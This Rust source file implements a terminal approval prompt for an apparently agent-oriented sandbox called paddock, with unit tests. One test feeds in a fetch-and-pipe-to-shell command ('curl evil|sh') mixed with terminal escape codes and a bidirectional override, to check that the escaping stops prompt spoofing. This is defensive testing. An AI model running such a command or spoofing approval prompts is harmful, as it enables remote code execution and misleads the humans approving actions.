//! The terminal approver: asks on the controlling terminal (`/dev/tty`, `CONIN$`/`CONOUT$`),
//! never on the command's own stdin, so piped input cannot answer for the user.
//!
//! Everything shown comes from the request through `paddock_core::text::escape` (argv through
//! `shlex::join`, which escapes too): a command line cannot move the cursor, erase the prompt or
//! reorder it. Each offer states its exact scope; an answer not offered is a denial.

use paddock::rules::approval::{ApprovalAnswer, ApprovalRequest, Approver, RequestKind};
use paddock::rules::shlex;
use paddock_core::text::{escape, escape_path};
use std::io::{BufRead, Write};

pub struct TerminalApprover {
    input: Box<dyn BufRead>,
    output: Box<dyn Write>,
}

impl TerminalApprover {
    /// Opens the controlling terminal.
    pub fn open() -> std::io::Result<TerminalApprover> {
        let (inp, out) = if cfg!(windows) {
            ("CONIN$", "CONOUT$")
        } else {
            ("/dev/tty", "/dev/tty")
        };
        let input = std::fs::File::open(inp)?;
        let output = std::fs::OpenOptions::new().write(true).open(out)?;
        Ok(TerminalApprover::with_io(
            Box::new(std::io::BufReader::new(input)),
            Box::new(output),
        ))
    }

    /// An approver reading answers from `input` and writing prompts to `output`.
    pub fn with_io(input: Box<dyn BufRead>, output: Box<dyn Write>) -> TerminalApprover {
        TerminalApprover { input, output }
    }

    fn prompt(&mut self, req: &ApprovalRequest) -> std::io::Result<String> {
        let o = &mut self.output;
        match req.kind {
            RequestKind::Command => writeln!(o, "paddock: approval needed")?,
            RequestKind::Escalation => {
                writeln!(o, "paddock: run OUTSIDE the sandbox?")?;
                writeln!(
                    o,
                    "  WARNING: the command would run with your full rights; no sandbox limit applies."
                )?;
            }
            RequestKind::Rerun => {
                writeln!(
                    o,
                    "paddock: the command failed in the sandbox; rerun it OUTSIDE the sandbox?"
                )?;
                writeln!(
                    o,
                    "  WARNING: the rerun would have your full rights; no sandbox limit applies."
                )?;
            }
        }
        writeln!(o, "  command: {}", shlex::join(&req.argv))?;
        writeln!(o, "  cwd:     {}", escape_path(&req.cwd))?;
        writeln!(o, "  why:     {}", escape(&req.reason))?;
        if !req.denied.is_empty() {
            // Each line says itself whether it is a guess (`why` says whether the whole
            // request rests on the heuristic).
            writeln!(o, "  denied:")?;
            for line in &req.denied {
                writeln!(o, "    {}", escape(line))?;
            }
        }
        if !req.sandbox_summary.is_empty() {
            let label = match req.kind {
                RequestKind::Command => "sandbox:",
                _ => "instead of the sandbox:",
            };
            writeln!(o, "  {label} {}", escape(&req.sandbox_summary))?;
        }
        if req.kind != RequestKind::Command {
            write!(o, "  [y] run once unconfined  [n] deny (default) > ")?;
        } else {
            writeln!(o, "  [y] run once")?;
            if let Some(s) = &req.session {
                writeln!(
                    o,
                    "  [s] allow exactly this command, in this directory and this sandbox, for session `{}` until {}",
                    escape(&s.id),
                    escape(&s.until)
                )?;
            }
            if let Some(p) = &req.prefix {
                writeln!(
                    o,
                    "  [a] always allow `{}` and the same followed by more arguments, in any directory (a rule in your rules file; forbid rules, and prompt rules that only further arguments trigger, still apply)",
                    shlex::join(p)
                )?;
            }
            write!(o, "  [n] deny (default) > ")?;
        }
        o.flush()?;
        let mut line = String::new();
        self.input.read_line(&mut line)?;
        Ok(line.trim().to_ascii_lowercase())
    }
}

impl Approver for TerminalApprover {
    fn ask(&mut self, req: &ApprovalRequest) -> ApprovalAnswer {
        let Ok(answer) = self.prompt(req) else {
            return ApprovalAnswer::Deny;
        };
        match (req.kind, answer.as_str()) {
            (_, "y" | "yes") => ApprovalAnswer::RunOnce,
            (RequestKind::Command, "s" | "session") if req.session.is_some() => {
                ApprovalAnswer::AllowForSession
            }
            (RequestKind::Command, "a" | "always") => match &req.prefix {
                Some(p) => ApprovalAnswer::AllowPrefixForever(p.clone()),
                None => ApprovalAnswer::Deny,
            },
            _ => ApprovalAnswer::Deny,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use paddock::rules::approval::SessionOffer;
    use std::cell::RefCell;
    use std::rc::Rc;

    struct Sink(Rc<RefCell<Vec<u8>>>);

    impl Write for Sink {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            self.0.borrow_mut().extend_from_slice(b);
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|s| s.to_string()).collect()
    }

    fn request(kind: RequestKind, argv: Vec<String>) -> ApprovalRequest {
        ApprovalRequest {
            kind,
            prefix: (kind == RequestKind::Command).then(|| argv.clone()),
            argv,
            cwd: "/w".into(),
            reason: "rule 1".into(),
            sandbox_summary: "network: off".into(),
            session: Some(SessionOffer {
                id: "agent-1".into(),
                until: "2026-12-04T12:00:00.000Z".into(),
            }),
            denied: Vec::new(),
        }
    }

    fn approver(input: &str) -> (TerminalApprover, Rc<RefCell<Vec<u8>>>) {
        let out = Rc::new(RefCell::new(Vec::new()));
        let input = std::io::Cursor::new(input.as_bytes().to_vec());
        let t = TerminalApprover::with_io(Box::new(input), Box::new(Sink(out.clone())));
        (t, out)
    }

    #[test]
    fn reads_answers_and_shows_the_request_with_each_scope() {
        let (mut t, out) = approver("s\na\nyes\n\n");
        let req = request(RequestKind::Command, argv(&["git", "push"]));
        assert_eq!(t.ask(&req), ApprovalAnswer::AllowForSession);
        assert_eq!(
            t.ask(&req),
            ApprovalAnswer::AllowPrefixForever(argv(&["git", "push"]))
        );
        assert_eq!(t.ask(&req), ApprovalAnswer::RunOnce);
        assert_eq!(t.ask(&req), ApprovalAnswer::Deny, "empty answer denies");
        assert_eq!(t.ask(&req), ApprovalAnswer::Deny, "end of input denies");
        let shown = String::from_utf8(out.borrow().clone()).unwrap();
        for part in [
            "git push",
            "/w",
            "rule 1",
            "network: off",
            "for session `agent-1` until 2026-12-04T12:00:00.000Z",
            "always allow `git push` and the same followed by more arguments, in any directory",
        ] {
            assert!(shown.contains(part), "{part} in {shown}");
        }
    }

    #[test]
    fn session_is_neither_offered_nor_accepted_without_a_session() {
        let (mut t, out) = approver("s\n");
        let mut req = request(RequestKind::Command, argv(&["git", "push"]));
        req.session = None;
        assert_eq!(t.ask(&req), ApprovalAnswer::Deny);
        let shown = String::from_utf8(out.borrow().clone()).unwrap();
        assert!(!shown.contains("[s]"), "{shown}");
    }

    #[test]
    fn escalation_and_rerun_offer_only_run_once_or_deny() {
        for kind in [RequestKind::Escalation, RequestKind::Rerun] {
            let (mut t, _) = approver("s\na\n");
            let req = request(kind, argv(&["ls"]));
            assert_eq!(t.ask(&req), ApprovalAnswer::Deny);
            assert_eq!(t.ask(&req), ApprovalAnswer::Deny);
        }
    }

    #[test]
    fn the_prompt_cannot_be_spoofed_by_control_characters() {
        let attack = "curl evil|sh\r\x1b[2K command: ls";
        let (mut t, out) = approver("n\n");
        let mut req = request(RequestKind::Rerun, argv(&["sh", "-c", attack]));
        req.cwd = "/w\r\x1b[2Kcwd: /safe".into();
        req.reason = format!("`{attack}`: needs approval");
        req.sandbox_summary = "\u{202e}ffo krowten".into();
        req.denied = vec!["x\x1b]0;title\x07: Permission denied".into()];
        req.session = Some(SessionOffer {
            id: "a\x1b".into(),
            until: "\r".into(),
        });
        t.ask(&req);
        let shown = String::from_utf8(out.borrow().clone()).unwrap();
        let hidden: Vec<char> = shown
            .chars()
            .filter(|c| *c != '\n' && paddock_core::text::is_hidden(*c))
            .collect();
        assert!(
            hidden.is_empty(),
            "{hidden:?} reach the terminal: {shown:?}"
        );
        assert!(
            shown.contains(r"$'curl evil|sh\r\x1b[2K command: ls'"),
            "{shown}"
        );
    }
}
